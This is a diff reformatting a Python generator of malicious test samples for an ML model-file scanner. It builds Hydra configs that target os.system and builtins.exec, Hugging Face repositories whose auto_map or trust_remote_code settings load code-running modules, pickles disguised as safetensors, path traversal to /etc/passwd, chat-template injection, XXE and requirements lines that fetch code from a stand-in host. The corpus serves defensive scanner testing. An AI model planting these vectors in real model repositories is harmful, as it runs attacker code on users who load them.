@@ -35,7 +35,7 @@ YAML = {
 HYDRA = {
     "os-system": f"_target_: os.system\n_args_: ['{SHELL}']\n",
     "subprocess": "model:\n  _target_: subprocess.Popen\n  args: [touch, hauberk-marker]\n",
-    "builtins-exec": f"a:\n  b:\n    _target_: builtins.exec\n    _args_: [\"{CODE}\"]\n",
+    "builtins-exec": f'a:\n  b:\n    _target_: builtins.exec\n    _args_: ["{CODE}"]\n',
     "eval-partial": "hook:\n  _target_: builtins.eval\n  _partial_: true\n",
     "pickle-load": "w:\n  _target_: torch.load\n  f: http://host.invalid/x\n",
     "runpy": "w:\n  _target_: runpy.run_path\n  path_name: x.py\n",
@@ -56,14 +56,27 @@ MODELING = RUNS + "from transformers import PreTrainedModel\nclass Net(PreTraine
 def samples() -> Iterator[Sample]:
     """Yield all texts."""
     for name, text in YAML.items():
-        proved = name not in ("ruby-object", "java-object", "laughs", "name", "module", "object", "apply-in-the-second-document")
+        proved = name not in (
+            "ruby-object",
+            "java-object",
+            "laughs",
+            "name",
+            "module",
+            "object",
+            "apply-in-the-second-document",
+        )
         how = {"loader": "yaml"} if proved else STATIC
         yield file("yaml", name, ("model.yaml", "config.yml", "hparams.yaml")[len(name) % 3], text.encode(), **how)
     for name, text in HYDRA.items():
         suffix = "json" if name == "json" else "yaml"
         yield file("hydra", f"{name}", f"config.{suffix}", text.encode(), "CVE-2025-23304", **STATIC)
         if name != "json":
-            nemo = tarred({"model_config.yaml": text.encode(), "model_weights.ckpt": plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n"})})
+            nemo = tarred(
+                {
+                    "model_config.yaml": text.encode(),
+                    "model_weights.ckpt": plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n"}),
+                }
+            )
             yield file("nemo", name, "model.nemo", nemo, "CVE-2025-23304", **STATIC)
     nemo = tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": EVIL})
     yield file("nemo", "weights-run", "model.nemo", nemo, loader="tar:model_weights.ckpt")
@@ -75,52 +88,136 @@ def samples() -> Iterator[Sample]:
 
 
 def _repository(name: str, reference: str = "", **files: Any) -> Sample:
-    listed = {key.replace("__", "."): value if isinstance(value, bytes) else value.encode() if isinstance(value, str) else json.dumps(value, indent=2).encode() for key, value in files.items()}
-    base = {"README.md": b"# A model\n", "config.json": json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}).encode()}
+    listed = {
+        key.replace("__", "."): value
+        if isinstance(value, bytes)
+        else value.encode()
+        if isinstance(value, str)
+        else json.dumps(value, indent=2).encode()
+        for key, value in files.items()
+    }
+    base = {
+        "README.md": b"# A model\n",
+        "config.json": json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}).encode(),
+    }
     return Sample("hugging-face", name, {**base, **listed}, reference, **STATIC)
 
 
 def _hugging_face() -> Iterator[Sample]:
     auto = {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "modeling_net.Net"}
     yield _repository("auto-map", config__json={"auto_map": auto, "model_type": "net"}, modeling_net__py=MODELING)
-    yield _repository("auto-map-of-another-repository", config__json={"auto_map": {"AutoModel": "evil/repo--modeling_net.Net"}})
+    yield _repository(
+        "auto-map-of-another-repository", config__json={"auto_map": {"AutoModel": "evil/repo--modeling_net.Net"}}
+    )
     yield _repository("auto-map-without-a-file", config__json={"auto_map": auto, "model_type": "net"})
-    yield _repository("auto-map-of-a-tokenizer", tokenizer_config__json={"auto_map": {"AutoTokenizer": ["tok.Tok", None]}}, tok__py=RUNS)
-    yield _repository("auto-map-of-a-processor", preprocessor_config__json={"auto_map": {"AutoProcessor": "proc.Proc"}}, proc__py=RUNS)
-    yield _repository("trust-remote-code", config__json={"trust_remote_code": True, "auto_map": {"AutoModel": "m.Net"}}, m__py=RUNS)
-    yield _repository("custom-pipelines", config__json={"custom_pipelines": {"run": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}}, pipe__py=RUNS)
-    yield _repository("custom-generate", **{"custom_generate/generate.py": RUNS, "generation_config__json": {"custom_generate": "evil/x"}})
-    yield _repository("diffusers-pipeline", **{"model_index__json": {"_class_name": ["pipeline", "Pipe"]}, "pipeline__py": RUNS})
-    yield _repository("diffusers-module", model_index__json={"_class_name": "StableDiffusionPipeline", "unet": ["unet_evil", "Net"]}, unet_evil__py=RUNS)
-    yield _repository("dataset-script", **{"data__py": RUNS, "README.md": b"# x\n"}, config__json={"auto_map": {"AutoModel": "data.Net"}})
-    yield _repository("sentence-transformers-module", modules__json=[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}], evil__py=RUNS)
-    yield _repository("sentence-transformers-os", modules__json=[{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
-    yield _repository("peft-auto-mapping", adapter_config__json={"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "base_model_name_or_path": "evil/repo"})
-    yield _repository("keras-metadata-pickle", **{"keras_metadata__pb": EVIL})
-    yield _repository("pickle-named-as-tensors", **{"model__safetensors": EVIL})
-    yield _repository("pickle-beside-tensors", **{"pytorch_model__bin": EVIL})
-    yield _repository("training-arguments", **{"training_args__bin": plain_zip({"a/data.pkl": EVIL, "a/version": b"3\n"})})
-    yield _repository("optimizer", **{"optimizer__pt": EVIL, "scheduler__pt": GOOD})
-    yield _repository("index-traversal", **{"model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}}})
+    yield _repository(
+        "auto-map-of-a-tokenizer",
+        tokenizer_config__json={"auto_map": {"AutoTokenizer": ["tok.Tok", None]}},
+        tok__py=RUNS,
+    )
+    yield _repository(
+        "auto-map-of-a-processor", preprocessor_config__json={"auto_map": {"AutoProcessor": "proc.Proc"}}, proc__py=RUNS
+    )
+    yield _repository(
+        "trust-remote-code", config__json={"trust_remote_code": True, "auto_map": {"AutoModel": "m.Net"}}, m__py=RUNS
+    )
+    yield _repository(
+        "custom-pipelines",
+        config__json={"custom_pipelines": {"run": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}},
+        pipe__py=RUNS,
+    )
+    yield _repository(
+        "custom-generate",
+        **{"custom_generate/generate.py": RUNS, "generation_config__json": {"custom_generate": "evil/x"}},
+    )
+    yield _repository("diffusers-pipeline", model_index__json={"_class_name": ["pipeline", "Pipe"]}, pipeline__py=RUNS)
+    yield _repository(
+        "diffusers-module",
+        model_index__json={"_class_name": "StableDiffusionPipeline", "unet": ["unet_evil", "Net"]},
+        unet_evil__py=RUNS,
+    )
+    yield _repository(
+        "dataset-script",
+        **{"data__py": RUNS, "README.md": b"# x\n"},
+        config__json={"auto_map": {"AutoModel": "data.Net"}},
+    )
+    yield _repository(
+        "sentence-transformers-module",
+        modules__json=[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}],
+        evil__py=RUNS,
+    )
+    yield _repository(
+        "sentence-transformers-os", modules__json=[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]
+    )
+    yield _repository(
+        "peft-auto-mapping",
+        adapter_config__json={
+            "peft_type": "LORA",
+            "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
+            "base_model_name_or_path": "evil/repo",
+        },
+    )
+    yield _repository("keras-metadata-pickle", keras_metadata__pb=EVIL)
+    yield _repository("pickle-named-as-tensors", model__safetensors=EVIL)
+    yield _repository("pickle-beside-tensors", pytorch_model__bin=EVIL)
+    yield _repository("training-arguments", training_args__bin=plain_zip({"a/data.pkl": EVIL, "a/version": b"3\n"}))
+    yield _repository("optimizer", optimizer__pt=EVIL, scheduler__pt=GOOD)
+    yield _repository(
+        "index-traversal",
+        **{"model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}}},
+    )
     yield _repository("index-absolute", **{"pytorch_model.bin.index.json": {"weight_map": {"a": "/etc/passwd"}}})
-    yield _repository("index-url", **{"model.safetensors.index.json": {"weight_map": {"a": "http://host.invalid/a.safetensors"}}})
-    yield _repository("handler", handler__py=RUNS + "class EndpointHandler: pass\n", requirements__txt="git+http://host.invalid/evil.git\n", config__json={"auto_map": {"AutoModel": "handler.E"}})
+    yield _repository(
+        "index-url", **{"model.safetensors.index.json": {"weight_map": {"a": "http://host.invalid/a.safetensors"}}}
+    )
+    yield _repository(
+        "handler",
+        handler__py=RUNS + "class EndpointHandler: pass\n",
+        requirements__txt="git+http://host.invalid/evil.git\n",
+        config__json={"auto_map": {"AutoModel": "handler.E"}},
+    )
     for name, template in TEMPLATES.items():
         if name in ("endless", "hidden-in-a-long-template", "request"):
             continue
-        yield _repository(f"template-{name}", "CVE-2024-34359", tokenizer_config__json={"chat_template": template, "tokenizer_class": "LlamaTokenizer"})
+        yield _repository(
+            f"template-{name}",
+            "CVE-2024-34359",
+            tokenizer_config__json={"chat_template": template, "tokenizer_class": "LlamaTokenizer"},
+        )
     yield _repository("template-file", "CVE-2024-34359", chat_template__jinja=TEMPLATES["globals"])
     yield _repository("template-json", "CVE-2024-34359", chat_template__json={"chat_template": TEMPLATES["lipsum"]})
-    yield _repository("template-list", "CVE-2024-34359", tokenizer_config__json={"chat_template": [{"name": "default", "template": "x"}, {"name": "rag", "template": TEMPLATES["subclasses"]}]})
-    yield _repository("template-folder", "CVE-2024-34359", **{"additional_chat_templates/tool.jinja": TEMPLATES["joiner"]})
-    yield _repository("template-of-a-processor", "CVE-2024-34359", processor_config__json={"chat_template": TEMPLATES["self"]})
-    yield file("hugging-face", "template-alone", "tokenizer_config.json", json.dumps({"chat_template": TEMPLATES["globals"]}).encode(), "CVE-2024-34359", loader="template")
+    yield _repository(
+        "template-list",
+        "CVE-2024-34359",
+        tokenizer_config__json={
+            "chat_template": [
+                {"name": "default", "template": "x"},
+                {"name": "rag", "template": TEMPLATES["subclasses"]},
+            ]
+        },
+    )
+    yield _repository(
+        "template-folder", "CVE-2024-34359", **{"additional_chat_templates/tool.jinja": TEMPLATES["joiner"]}
+    )
+    yield _repository(
+        "template-of-a-processor", "CVE-2024-34359", processor_config__json={"chat_template": TEMPLATES["self"]}
+    )
+    yield file(
+        "hugging-face",
+        "template-alone",
+        "tokenizer_config.json",
+        json.dumps({"chat_template": TEMPLATES["globals"]}).encode(),
+        "CVE-2024-34359",
+        loader="template",
+    )
     yield file("hugging-face", "auto-map-alone", "config.json", json.dumps({"auto_map": auto}).encode(), **STATIC)
 
 
 def mlmodel(loader: str = "mlflow.sklearn", **more: str) -> str:
     lines = {"loader_module": loader, "model_path": "model.pkl", "python_version": "3.11.7", **more}
-    return "artifact_path: model\nflavors:\n  python_function:\n" + "".join(f"    {key}: {value}\n" for key, value in lines.items())
+    return "artifact_path: model\nflavors:\n  python_function:\n" + "".join(
+        f"    {key}: {value}\n" for key, value in lines.items()
+    )
 
 
 def _mlflow() -> Iterator[Sample]:
@@ -162,7 +259,14 @@ def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
 
 
 def cell(source: str, outputs: list[Any] | None = None) -> dict[str, Any]:
-    return {"cell_type": "code", "execution_count": 1, "id": "a", "metadata": {}, "outputs": outputs or [], "source": source.splitlines(keepends=True)}
+    return {
+        "cell_type": "code",
+        "execution_count": 1,
+        "id": "a",
+        "metadata": {},
+        "outputs": outputs or [],
+        "source": source.splitlines(keepends=True),
+    }
 
 
 def _notebooks() -> Iterator[Sample]:
@@ -215,7 +319,11 @@ def _pmml() -> Iterator[Sample]:
     for name, data in rows.items():
         yield file("xml", f"pmml-{name}", "model.pmml", data, "CWE-611", **STATIC)
     for name in ("entity-file", "external-dtd", "laughs"):
-        xml = rows[name].replace(b"<PMML version='4.4' xmlns='http://www.dmg.org/PMML-4_4'>", b"<net name='x' version='11'>").replace(b"</PMML>", b"</net>")
+        xml = (
+            rows[name]
+            .replace(b"<PMML version='4.4' xmlns='http://www.dmg.org/PMML-4_4'>", b"<net name='x' version='11'>")
+            .replace(b"</PMML>", b"</net>")
+        )
         yield file("xml", f"openvino-{name}", "model.xml", xml, "CWE-611", **STATIC)
 
 
@@ -227,7 +335,10 @@ def _requirements() -> Iterator[Sample]:
         "requirements-include-url": ("requirements.txt", "-r http://host.invalid/more.txt\n"),
         "requirements-continued": ("requirements.txt", "numpy \\\n--extra-index-url \\\nhttp://host.invalid/simple\n"),
         "requirements-editable": ("requirements.txt", "-e git+http://host.invalid/evil.git#egg=evil\n"),
-        "environment": ("environment.yml", "channels: [http://host.invalid/c]\ndependencies:\n- pip:\n  - git+http://host.invalid/x\n"),
+        "environment": (
+            "environment.yml",
+            "channels: [http://host.invalid/c]\ndependencies:\n- pip:\n  - git+http://host.invalid/x\n",
+        ),
     }
     for name, (filename, text) in rows.items():
         if name != "setup-py":  # source code beside a model is not judged by anybody's definition of a model scan
